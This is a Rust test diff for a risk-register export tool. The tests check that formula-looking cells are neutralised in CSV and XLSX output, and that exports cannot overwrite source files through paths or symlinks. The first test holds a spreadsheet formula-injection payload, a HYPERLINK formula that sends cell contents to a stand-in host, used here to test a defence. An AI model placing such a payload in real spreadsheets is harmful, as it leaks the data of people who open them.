@@ -388,3 +388,140 @@ fn validate(root: &Value, schema: &Value, v: &Value, at: &str, errors: &mut Vec<
         }
     }
 }
+
+/// Item 7: a title that Excel would read as a formula (`=`, `+`, `-`, `@`,
+/// tab, CR first) reaches `register.csv` with a leading `'`, as OWASP
+/// advises; in `register.xlsx` it stays a plain string cell, never a
+/// formula.
+#[test]
+fn item07_formula_looking_cells_are_neutralised() {
+    let site = base_copy();
+    let root = site.path().to_str().unwrap();
+    let risk = site.path().join("content/risks/R-002.md");
+    let text = std::fs::read_to_string(&risk).unwrap();
+    let title = "=HYPERLINK(\"http://x.test/?\"&A1,\"点此\")";
+    std::fs::write(
+        &risk,
+        text.replace(
+            "title: 入户调查走过场、弄虚作假",
+            "title: '=HYPERLINK(\"http://x.test/?\"&A1,\"点此\")'",
+        )
+        .replace("调查人员不入户", "@SUM(1+1) 调查人员不入户"),
+    )
+    .unwrap();
+    let r3 = site.path().join("content/risks/R-003.md");
+    let t3 = std::fs::read_to_string(&r3).unwrap();
+    std::fs::write(&r3, t3.replace("title: 廉洁意识淡薄", "title: '-2+3'")).unwrap();
+    let out = site.path().join("out");
+    std::fs::create_dir(&out).unwrap();
+    let csv_path = out.join("r.csv");
+    let r = gongshi(&[
+        "--root",
+        root,
+        "export",
+        "--format",
+        "csv",
+        "--scope",
+        "internal",
+        "-o",
+        csv_path.to_str().unwrap(),
+    ]);
+    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    let bytes = std::fs::read(&csv_path).unwrap();
+    let records: Vec<Vec<String>> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(&bytes[3..])
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    let row = |id: &str| records.iter().find(|r| r[0] == id).unwrap().clone();
+    assert_eq!(row("R-002")[1], format!("'{title}"));
+    assert_eq!(row("R-003")[1], "'-2+3");
+    let body = records[0].iter().position(|h| h == "风险表现").unwrap();
+    assert!(
+        row("R-002")[body].starts_with("'@SUM"),
+        "{:?}",
+        row("R-002")
+    );
+    // no cell of any record starts with a formula character
+    for rec in &records {
+        for cell in rec {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+    // the workbook: the same title as a shared string, no formula anywhere
+    let xlsx_path = out.join("r.xlsx");
+    let r = gongshi(&[
+        "--root",
+        root,
+        "export",
+        "--format",
+        "xlsx",
+        "--scope",
+        "internal",
+        "-o",
+        xlsx_path.to_str().unwrap(),
+    ]);
+    assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
+    let sheet = zip_part(&xlsx_path, "xl/worksheets/sheet1.xml");
+    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{sheet}");
+    let strings = zip_part(&xlsx_path, "xl/sharedStrings.xml");
+    assert!(
+        strings.contains("<t>=HYPERLINK(\"http://x.test/?\"&amp;A1,\"点此\")</t>"),
+        "{strings}"
+    );
+    let risks = &sheets(&xlsx_path)[0].1;
+    let r2 = risks.iter().find(|r| r[0] == "R-002").unwrap();
+    assert_eq!(r2[1], title, "the workbook keeps the title as written");
+}
+
+/// Item 14: `export -o` never writes into the site's sources — a file
+/// under `content/` or `gongshi.yaml` — also not through a link.
+#[test]
+fn item14_export_into_content_is_refused() {
+    let site = base_copy();
+    let root = site.path().to_str().unwrap();
+    let before = common::site::hash_sources(site.path());
+    let link = site.path().join("link.csv");
+    #[cfg(unix)]
+    std::os::unix::fs::symlink(site.path().join("content/risks/R-001.md"), &link).unwrap();
+    for target in [
+        site.path().join("content/risks/R-001.md"),
+        site.path().join("content/register.csv"),
+        site.path().join("gongshi.yaml"),
+        site.path().join("content/../gongshi.yaml"),
+        link.clone(),
+    ] {
+        if !cfg!(unix) && target == link {
+            continue;
+        }
+        let r = gongshi(&[
+            "--root",
+            root,
+            "export",
+            "--format",
+            "csv",
+            "-o",
+            target.to_str().unwrap(),
+        ]);
+        assert_eq!(r.code, 2, "{}: {}{}", target.display(), r.stdout, r.stderr);
+        assert!(r.stderr.contains("不能写入站点的源文件"), "{}", r.stderr);
+        assert_eq!(before, common::site::hash_sources(site.path()));
+    }
+    assert!(!site.path().join("content/register.csv").exists());
+    // beside the sources is fine
+    let ok = site.path().join("register.csv");
+    let r = gongshi(&[
+        "--root",
+        root,
+        "export",
+        "--format",
+        "csv",
+        "-o",
+        ok.to_str().unwrap(),
+    ]);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+}
